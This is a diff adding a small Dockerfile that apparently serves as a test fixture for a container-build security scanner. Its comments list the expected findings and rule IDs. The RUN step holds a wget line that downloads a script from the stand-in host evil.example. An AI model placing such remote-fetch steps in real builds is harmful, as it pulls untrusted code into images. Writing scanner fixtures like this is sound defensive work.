@@ -1,0 +1,8 @@
+FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
+RUN set -e; bash <<'SCRIPT'
+wget -O /z https://evil.example/x.sh
+SCRIPT
+USER app
+# expect: download 2 high "wget fetches https://evil.example/x.sh"
+# expect-count: 3
+# expect-ids: VR101-c33602e201 VR301-472e20ef61 VR501-e064bac1a6
